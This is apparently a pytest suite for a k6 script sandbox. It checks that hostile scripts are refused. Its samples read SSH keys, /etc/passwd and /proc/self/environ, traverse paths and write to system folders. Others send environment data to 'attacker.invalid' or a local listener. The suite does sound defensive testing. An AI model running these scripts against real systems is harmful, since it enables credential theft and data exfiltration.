"""Hostile scripts under the real k6, of both major versions: what is read, bundled or run reaches nothing else."""

import json
import os
import socket
from collections.abc import Awaitable, Callable
from pathlib import Path

import anyio
import pytest
from support.listeners import Listeners, listeners

from k6_cloud.errors import ScriptError
from k6_cloud.scripts.script import Script
from k6_runner.archives.bundling import bundle
from k6_runner.binary import K6
from k6_runner.confinement.terms import Abilities
from k6_runner.execution import execute
from k6_runner.limits import MIB, RunLimits
from k6_runner.outcome import Outcome
from k6_runner.process import NotConfined
from k6_runner.reading.inspection import inspect
from k6_runner.reading.k6_inspect import NeedsNetwork, ScriptRejected

RUN = "export default function () {}"
SECRET = "-----BEGIN OPENSSH PRIVATE KEY-----"
# The kernel is taken for one without rules for ports, as in many containers.
OLD = RunLimits(pretended=Abilities(1, True))

Reading = Callable[[K6, str, RunLimits], Awaitable[object]]


async def _inspected(k6: K6, source: str, limits: RunLimits) -> object:
    with Script.from_chunks([source.encode()]) as script:
        return (await inspect(k6, script, limits, {})).options


async def _bundled(k6: K6, source: str, limits: RunLimits) -> list[str]:
    """The script as an entry with a helper, which makes `k6 archive` run it."""
    async with anyio.TemporaryDirectory() as name:
        folder = Path(name)
        (folder / "helper.js").write_text("export const one = 1;")
        (folder / "main.js").write_text("import './helper.js'; " + source)
        with await bundle(k6, folder / "main.js", folder, limits, MIB) as script:
            return [member.path for member in script.members()]


READINGS = pytest.mark.parametrize("read", [_inspected, _bundled], ids=["inspect", "bundle"])


async def _refusal(read: Reading, k6: K6, source: str, limits: RunLimits) -> str:
    with pytest.raises((ScriptError, ScriptRejected)) as caught:
        await read(k6, source, limits)
    return str(caught.value)


async def _outcome(k6: K6, source: str, limits: RunLimits) -> Outcome:
    with Script.from_chunks([source.encode()]) as script:
        return await execute(k6, script, limits, {}, stop=anyio.Event(), started=lambda: None)


@pytest.fixture
def key(tmp_path: Path) -> Path:
    """A private key in a home folder."""
    file = tmp_path / "home/.ssh/id_rsa"
    file.parent.mkdir(parents=True)
    file.write_text(SECRET)
    return file


@READINGS
@pytest.mark.parametrize(
    "code",
    [
        "const s = open({path}); throw new Error(s);",
        "const s = open('file://' + {path}); throw new Error(s);",
        "const s = require({path}); throw new Error(s);",
        "const fs = require('k6/experimental/fs'); const f = await fs.open({path}); throw new Error('read');",
        "const g = new (require('k6/net/grpc').Client)(); g.loadProtoset({path}); throw new Error('read');",
        "const g = new (require('k6/net/grpc').Client)(); g.load(['/'], {path}); throw new Error('read');",
    ],
)
async def test_files_of_the_machine_cannot_be_read(each_k6: K6, read: Reading, key: Path, code: str):
    said = await _refusal(read, each_k6, code.format(path=json.dumps(str(key))) + RUN, OLD)
    assert "permission denied" in said
    assert SECRET not in said
    assert "Error: read" not in said


@READINGS
@pytest.mark.parametrize(
    "path",
    [
        "/etc/hostname",
        "/etc/passwd",
        "/proc/self/environ",
        "/proc/self/maps",
        "/proc/1/cmdline",
        "/dev/urandom",
    ],
)
async def test_files_of_the_system_cannot_be_read(each_k6: K6, read: Reading, path: str):
    said = await _refusal(read, each_k6, f"const s = open('{path}'); throw new Error('read'); {RUN}", OLD)
    assert "permission denied" in said


@READINGS
async def test_a_link_does_not_lead_out(each_k6: K6, read: Reading, key: Path):
    """The bundler's project has a link, and a way up; a single script has neither."""
    source = f"let s = ''; try {{ s = open('./link') }} catch (e) {{ s = open('../../../../../../../..{key}') }} {RUN}"
    assert "denied" in await _refusal(read, each_k6, source, OLD)


@READINGS
@pytest.mark.parametrize(
    "code",
    [
        "require('https://127.0.0.1:{tcp}/?' + __ENV.X);",
        "require('https://attacker.invalid/?key');",
        "require('https://[::1]:{tcp}/x.js');",
    ],
)
async def test_nothing_is_sent_while_a_script_is_read(each_k6: K6, read: Reading, code: str):
    with listeners() as heard:
        source = code.replace("{tcp}", str(heard.tcp.getsockname()[1]))
        said = await _refusal(read, each_k6, source + RUN, OLD)
        assert heard.arrived() == []
    assert "has no network while it is only read" in said


async def test_a_static_import_from_the_network_needs_it(each_k6: K6):
    with pytest.raises(NeedsNetwork, match=r"https://jslib\.invalid/x\.js"):
        await _inspected(each_k6, "import x from 'https://jslib.invalid/x.js'; " + RUN, OLD)


@READINGS
@pytest.mark.parametrize(
    "code",
    [
        "require('k6/http').get('{url}');",
        "new (require('k6/ws').connect)('{url}');",
        "const c = new (require('k6/net/grpc').Client)(); c.connect('127.0.0.1:{tcp}', {{ plaintext: true }});",
        "require('k6/http').get('http://attacker.invalid/');",
    ],
)
async def test_clients_of_k6_send_nothing_in_init_code(each_k6: K6, read: Reading, code: str):
    with listeners() as heard:
        source = code.format(url=heard.url, tcp=heard.tcp.getsockname()[1])
        await _refusal(read, each_k6, source + RUN, OLD)
        assert heard.arrived() == []


async def test_no_socket_of_the_machine_is_reached(each_k6: K6, tmp_path: Path):
    path = tmp_path / "docker.sock"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        server.listen()
        server.setblocking(False)
        source = f"const s = open('{path}'); {RUN}"
        await _refusal(_inspected, each_k6, source, OLD)
        with pytest.raises(BlockingIOError):
            server.accept()


_PLACES = ("/tmp", "/dev/shm", "/var/tmp", "/proc/{pid}", "{home}")


@pytest.mark.parametrize("place", _PLACES)
@pytest.mark.parametrize("limits", [OLD, RunLimits()], ids=["old kernel", "this kernel"])
async def test_a_run_writes_nowhere_else(each_k6: K6, tmp_path: Path, place: str, limits: RunLimits):
    folder = Path(place.format(pid=os.getpid(), home=tmp_path))
    target = folder / ("oom_score_adj" if "proc" in place else f"left-by-a-script-{os.getpid()}")
    before = target.read_text() if target.exists() else None
    summary = f"export function handleSummary() {{ return {{ {json.dumps(str(target))}: '7' }} }}"
    outcome = await _outcome(each_k6, f"{RUN} {summary}", limits)
    assert "permission denied" in (outcome.message or "")
    assert (target.read_text() if target.exists() else None) == before


async def test_a_run_that_writes_many_files_is_ended(each_k6: K6):
    files = "for (let i = 0; i < 120; i++) files['f' + i] = 'x'.repeat(5e5);"
    source = f"{RUN} export function handleSummary() {{ const files = {{}}; {files} return files }}"
    outcome = await _outcome(each_k6, source, RunLimits(directory_bytes=20 * MIB))
    assert (outcome.status, outcome.result) == ("aborted", "error")
    assert "wrote more than 20 MiB" in (outcome.message or "")
    assert "K6_SANDBOX_MAX_DIRECTORY_BYTES" in (outcome.message or "")


async def test_a_script_that_is_only_read_writes_nothing_at_all(each_k6: K6, tmp_path: Path):
    """`k6 inspect` writes no summary, and its flags for files are not the script's."""
    target = tmp_path / "out.txt"
    source = f"export const options = {{ vus: 1, iterations: 1 }}; {RUN} export function handleSummary() {{ return {{ '{target}': 'x' }} }}"
    await _inspected(each_k6, source, OLD)
    await _bundled(each_k6, source, OLD)
    assert not target.exists()


@pytest.mark.parametrize("pretended", [Abilities(0, True), Abilities(7, False), Abilities()])
async def test_without_confinement_no_code_runs(each_k6: K6, pretended: Abilities):
    limits = RunLimits(pretended=pretended)
    endless = "while (true) {} " + RUN
    for act in (_inspected, _bundled, _outcome):
        with anyio.fail_after(10), pytest.raises(NotConfined) as caught:
            await act(each_k6, endless, limits)
        assert "the script's code was not run" in str(caught.value)
        assert "K6_MCP_ALLOW_UNCONFINED=1" in str(caught.value)
        assert "K6_PATH" in str(caught.value)


async def test_whoever_accepts_the_risk_by_name_gets_a_script_read(each_k6: K6):
    limits = RunLimits(pretended=Abilities(), allow_unconfined=True)
    source = "export const options = { vus: open('/etc/hostname').length > 0 ? 3 : 9, iterations: 3 };" + RUN
    found = await _inspected(each_k6, source, limits)
    assert isinstance(found, dict)
    assert found["vus"] == 3


async def test_scripts_that_mean_no_harm_are_read_bundled_and_run(each_k6: K6):
    source = "export const options = { vus: 2, iterations: 2 };" + RUN
    assert await _inspected(each_k6, source, OLD) == await _inspected(each_k6, source, RunLimits())
    assert any(path.endswith("/helper.js") for path in await _bundled(each_k6, source, OLD))
    assert (await _outcome(each_k6, source, OLD)).result == "passed"


def test_listeners_hear_what_arrives():
    with listeners() as heard:
        assert isinstance(heard, Listeners)
        with (
            socket.create_connection(heard.tcp.getsockname()),
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
        ):
            udp.sendto(b"x", heard.udp.getsockname())
            assert heard.arrived() == ["tcp", "udp"]
